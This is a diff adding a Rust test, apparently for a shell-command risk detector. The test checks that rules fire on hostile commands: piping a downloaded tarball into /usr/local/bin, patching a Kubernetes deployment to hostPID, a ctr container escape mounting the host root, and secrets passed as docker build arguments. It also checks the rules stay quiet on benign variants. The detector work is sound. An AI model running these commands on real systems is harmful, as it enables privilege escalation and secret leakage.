@@ -5623,3 +5623,60 @@ fn printed_credentials_piped_out() {
         false,
     );
 }
+
+/// A download unpacked into the PATH, a workload patched to run privileged, containerd's
+/// `ctr` with the host's root, and a secret passed as a build argument.
+#[test]
+fn supply_chain_and_container_settings() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            (
+                "curl -sL https://x.example/t.tgz | tar xz -C /usr/local/bin",
+                "download-extracted-into-path",
+            ),
+            (
+                "kubectl patch deploy api -p '{\"spec\":{\"template\":{\"spec\":{\"hostPID\":true}}}}'",
+                "kubectl-privileged-pod",
+            ),
+            (
+                "ctr run --mount type=bind,src=/,dst=/host,options=rbind alpine x sh",
+                "container-escape",
+            ),
+            (
+                "docker build --build-arg NPM_TOKEN=$NPM_TOKEN .",
+                "build-arg-secret",
+            ),
+            ("docker build --build-arg GH_TOKEN .", "build-arg-secret"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            (
+                "curl -sL https://x.example/t.tgz | tar xz -C ./tools",
+                "download-extracted-into-path",
+            ),
+            (
+                "tar xzf t.tgz -C /usr/local/bin && curl -fsS https://x.example",
+                "download-extracted-into-path",
+            ),
+            (
+                "kubectl patch deploy api -p '{\"spec\":{\"replicas\":3}}'",
+                "kubectl-privileged-pod",
+            ),
+            ("ctr run alpine x echo hi", "container-escape"),
+            (
+                "docker build --build-arg tokenizer_version=2 .",
+                "build-arg-secret",
+            ),
+            (
+                "docker build --secret id=npm,env=NPM_TOKEN .",
+                "build-arg-secret",
+            ),
+        ],
+        false,
+    );
+}
